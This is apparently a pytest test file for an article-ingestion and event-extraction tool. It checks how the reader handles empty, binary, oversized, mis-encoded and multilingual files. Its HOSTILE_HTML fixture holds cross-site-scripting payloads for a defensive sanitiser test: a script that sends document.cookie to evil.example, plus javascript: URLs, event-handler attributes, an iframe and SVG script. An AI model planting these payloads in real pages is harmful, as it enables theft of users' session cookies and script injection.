"""Hostile and broken article files, through `events.sources.read_path` and `timeline ingest`:
each is refused with one line naming the file, or read correctly; nothing partial is stored."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from sec_helpers import run_cli

from events import sources
from events.errors import InputError
from events.extract import extract_document
from events.query import EventQuery
from events.store import Store

# Each text is long enough (two sentences) that charset detection has something to go on, as real
# articles do; the date in each is what extraction should find.
ENCODED = {
    "cp1252": (
        "The minister’s “final” offer — worth €3 million — was rejected on 3 March 2021. "
        "Critics said the café owners’ union would strike again in April.",
        "cp1252",
    ),
    "latin-1": (
        "Der Bürgermeister von Köln traf sich am 3. März 2021 mit den Anwohnern. "
        "Die Straße wird im Frühjahr für den Verkehr gesperrt, sagte er.",
        "latin-1",
    ),
    "utf-16-bom": (
        "Le président a annoncé le 3 mars 2021 une réforme. Les syndicats répondront à la mi-avril, "
        "selon l’AFP.",
        "utf-16",  # Python writes the BOM for plain "utf-16"
    ),
    "shift-jis": (
        "2021年3月3日、東京都で新しい条例が可決された。知事は来月から施行すると述べた。",
        "shift_jis",
    ),
}
MIXED = (
    "On 3 March 2021 the delegates — Ольга Петрова, محمد العلي and 李小龙 — signed the accord 🤝. "
    "Ze\u0301ro-width\u200b joiners\u200d, RTL marks \u200f and combining accents (e\u0301) stay as written. "
    "Σύμφωνα με την ανακοίνωση, the next meeting is in May 2021."
)
HOSTILE_HTML = """<!doctype html><html><head><title>Council votes</title>
<script>document.cookie && fetch('https://evil.example/?c=' + document.cookie)</script>
<style>body { background: url(javascript:alert(1)) }</style></head>
<body onload="alert('onload')"><nav>Home | News</nav>
<article><h1>Council votes</h1>
<p>The city council voted on 3 March 2021 to close the old bridge.<img src=x onerror="alert('img')"></p>
<p onclick="alert('p')">Works are due to start in <b>May 2021</b>, the mayor said.</p>
<iframe src="https://evil.example/frame"></iframe>
<p><a href="javascript:alert('link')">More</a> about the bridge, which opened in 1911.</p>
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
</article></body></html>"""
EXECUTABLE = ("<script", "onerror", "onload", "onclick", "javascript:", "alert(", "<iframe", "fetch(", "<svg")


def write(tmp: Path, name: str, data: bytes) -> Path:
    path = tmp / name
    path.write_bytes(data)
    return path


# -- read_path ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("empty.txt", b"", "empty"),
        ("blank.txt", b" \n\t\r\n  ", "empty"),
        ("image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8, "binary"),
        ("nulls.md", b"\x00" * 4096, "binary"),
        ("front-only.md", b"---\ntitle: Nothing\n---\n", "no text"),
        ("bad-front.md", b"---\ntitle: [unclosed\n---\nBody text on 3 March 2021.", "front matter"),
    ],
)
def test_unusable_files_are_refused_with_one_line(
    tmp_path: Path, name: str, data: bytes, message: str
) -> None:
    path = write(tmp_path, name, data)
    with pytest.raises(InputError) as info:
        sources.read_path(path)
    text = str(info.value)
    assert message in text and name in text and "\n" not in text


def test_a_50_mb_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "huge.txt"
    with open(path, "wb") as fp:  # sparse: the size check must not depend on reading it
        fp.truncate(50 * 1024 * 1024)
    with pytest.raises(InputError, match=r"huge\.txt: 50 MiB is larger than the 20 MiB limit"):
        sources.read_path(path)


@pytest.mark.parametrize("key", list(ENCODED))
def test_mis_encoded_files_are_decoded_to_the_right_text(tmp_path: Path, key: str) -> None:
    text, codec = ENCODED[key]
    path = write(tmp_path, f"{key}.txt", text.encode(codec))
    doc = sources.read_path(path, published=dt.date(2021, 3, 4))
    assert doc.text == text
    found = extract_document(doc)
    for ev in found:
        for s in ev.sources:
            assert doc.text[s.sentence_start : s.sentence_end] == s.sentence


def test_mixed_scripts_keep_their_offsets(tmp_path: Path) -> None:
    path = write(tmp_path, "mixed.txt", MIXED.encode("utf-8"))
    doc = sources.read_path(path, published=dt.date(2021, 3, 4))
    assert doc.text == MIXED
    found = extract_document(doc)
    assert any(ev.when.start == dt.date(2021, 3, 3) for ev in found)
    for ev in found:
        for s in ev.sources:
            assert doc.text[s.sentence_start : s.sentence_end] == s.sentence
            if s.date_start is not None and s.date_end is not None:
                assert s.date_text == doc.text[s.date_start : s.date_end]


def test_html_keeps_the_text_and_drops_everything_executable(tmp_path: Path) -> None:
    path = write(tmp_path, "page.html", HOSTILE_HTML.encode("utf-8"))
    doc = sources.read_path(path, published=dt.date(2021, 3, 4))
    assert "voted on 3 March 2021 to close the old bridge" in doc.text
    assert "Works are due to start in May 2021" in doc.text
    lowered = doc.text.lower() + " " + (doc.title or "").lower()
    for marker in EXECUTABLE:
        assert marker not in lowered, marker
    found = extract_document(doc)
    assert any(ev.when.start == dt.date(2021, 3, 3) for ev in found)
    for ev in found:
        assert not any(m in ev.title.lower() for m in EXECUTABLE)


# -- timeline ingest ----------------------------------------------------------------------------


@pytest.mark.slow
def test_ingest_of_a_hostile_folder_stores_the_good_files_and_names_the_bad(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    bad = {
        "empty.txt": b"",
        "binary.txt": b"\x7fELF\x02\x01\x01\x00" + bytes(4096),
        "blank.md": b"\n\n   \n",
    }
    for name, data in bad.items():
        write(folder, name, data)
    with open(folder / "huge.txt", "wb") as fp:
        fp.truncate(50 * 1024 * 1024)
    good: dict[str, str] = {}
    for key, (text, codec) in ENCODED.items():
        write(folder, f"{key}.txt", text.encode(codec))
        good[f"{key}.txt"] = text
    write(folder, "mixed.txt", MIXED.encode("utf-8"))
    good["mixed.txt"] = MIXED
    write(folder, "page.html", HOSTILE_HTML.encode("utf-8"))
    url = f"sqlite:///{tmp_path / 'ingest.sqlite'}"

    res = run_cli("ingest", str(folder), "--db", url, "--published", "2021-03-04", "--no-progress")
    assert res.returncode == 1  # some files failed: said so, the rest went in
    assert "Traceback" not in res.stderr + res.stdout
    failures = [line for line in res.stderr.splitlines() if line.startswith("failed:")]
    assert len(failures) == len(bad) + 1, res.stderr
    for name in [*bad, "huge.txt"]:
        assert sum(name in line for line in failures) == 1, (name, failures)
    assert "6 documents added" in res.stdout and "4 failed" in res.stdout

    with Store.open(url) as store:
        docs = store.list_documents()
        assert len(docs) == len(good) + 1
        texts = {d.text for d in docs}
        for text in good.values():
            assert text in texts  # decoded right, stored whole
        html_doc = next(d for d in docs if "old bridge" in d.text)
        assert not any(m in html_doc.text.lower() for m in EXECUTABLE)
        events = store.query(EventQuery(include_unresolved=True))
        assert {ev.sources[0].document_id for ev in events} <= {d.id for d in docs}

    # Running it again adds nothing and still names the same bad files.
    again = run_cli("ingest", str(folder), "--db", url, "--published", "2021-03-04", "--no-progress")
    assert again.returncode == 1 and "0 documents added" in again.stdout
    assert "6 already stored" in again.stdout
    with Store.open(url) as store:
        assert len(store.list_documents()) == len(good) + 1
